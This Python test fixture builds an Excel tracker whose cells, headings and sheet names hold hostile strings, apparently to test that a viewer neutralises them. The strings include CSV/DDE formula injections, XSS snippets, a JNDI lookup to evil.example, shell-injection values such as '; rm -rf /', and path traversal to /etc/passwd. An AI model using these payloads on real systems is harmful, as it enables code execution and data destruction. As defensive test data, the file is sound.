"""Texts that try to command whatever shows them, and a tracker that is full of them."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import openpyxl

from tests.hostile import CASE, HEADERS

BLANKS = ("", " ", "\u00a0", "\u200b", "\ufeff", "\t", "\n", "\u3000", "\u202e", "\u2060")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    '=HYPERLINK("http://evil.example","x")',
    "＝1+1",
)
MARKS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table><h1>x", "'\"><svg onload=alert(1)>",
    "{{7*7}}", "{% raw %}", "${jndi:ldap://evil.example/a}", "javascript:alert(1)", "data:text/html,<b>x",
    "[click](http://evil.example)", "![x](http://evil.example/p.png)", "<http://evil.example>", "https://evil.example",
    "www.evil.example", "x@evil.example", "@octocat", "#123", "GH-1", "# heading", "> quote", "- item", "1. item",
    "| a | b |", "`code`", "```", "**bold**", "__x__", "~~x~~", "\\", "\\n", "---", "***", "&lt;b&gt;", "&amp;",
    "<!-- x -->", "-->", "]]>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "&xxe;", "%s%n", "%00", "::error::x",
    "::set-output name=a::b", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b2J", "\x07", "\b\b\b", "\r\nX: y",
    "a\rb", "a\u2028b", "a\u2029b", "a\x85b", "\u202eabc\u202c", "\u2066abc\u2069", "\u061cabc", "e\u0301" * 40,
    "🧑‍🤝‍🧑" * 8,
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), "ﷺ" * 9, "Ω≈ç√∫", "田中さん", "אבג", "مرحبا",
    "'", '"', ",", ";", "\t", ";=1", ',"=1', '";=1', "'=1", "a,b;c\td|e", 'a "quoted" b', "a''b", "[bold red]x[/]",
    "[/]", "[link=http://evil.example]x[/link]", "{0}", "{name}", "$(touch x)", "`touch x`", "; rm -rf /", "&& calc",
    "../../etc/passwd", "C:\\x\\y", "CON", "nul", ".", "..", "~", "!A1", "A1", "R1C1", "'Sheet'!A1", "1E999",
    "-0", "1e5",
    "0x10", "TRUE", "NaN", "null", "#REF!", "#N/A", "_x000D_", "_x0041_", "x" * 400, "word " * 120, "\u00ad", "\u200d",
)  # fmt: skip


def texts() -> list[str]:
    """At least 200 of them, without what a workbook cannot hold."""
    led = [blank + formula for blank in BLANKS for formula in FORMULAS]
    inside = [f"Cotton {mark} gloves" for mark in MARKS[:60]]
    return [*dict.fromkeys([*led, *MARKS, *inside])]


def tracker(path: Path, shift: int = 0) -> Path:
    """A tracker whose entries, analysts, column heading and second sheet are such texts; `shift` moves them on."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Active"
    sheet.append([*HEADERS, '<b onclick="x">@octocat =1+1</b>'])
    for number, row in enumerate(_rows(shift), start=1):
        sheet.append([f"FLD-2019-{number:03}", *row, "x"])
    other = book.create_sheet("<s>=1 @x 'it''s'")
    other["A1"] = "=notes"
    book.save(path)
    return path


def _rows(start: int) -> Iterator[list[str]]:
    """Each text once as a commodity, a manufacturer, a status, an analyst, a date and an update."""
    filled = ("Commodity", "Manufacturer", "Status", "Assigned Analyst", "Date Received", "Current Update")
    places = [HEADERS.index(name) - 1 for name in filled]
    every = [_held(text) for text in texts()]
    for number in range(len(every)):
        row = [*CASE[1:]]
        for shift, place in enumerate(places):
            row[place] = every[(number + start + shift * 31) % len(every)]
        yield row


def _held(text: str) -> str:
    """What a workbook can hold of it; a leading "=" would be a formula, so it stands behind a no-break space."""
    kept = "".join(sign for sign in text if sign in "\t\n" or sign >= " ")
    return "\u00a0" + kept if kept.startswith("=") else kept
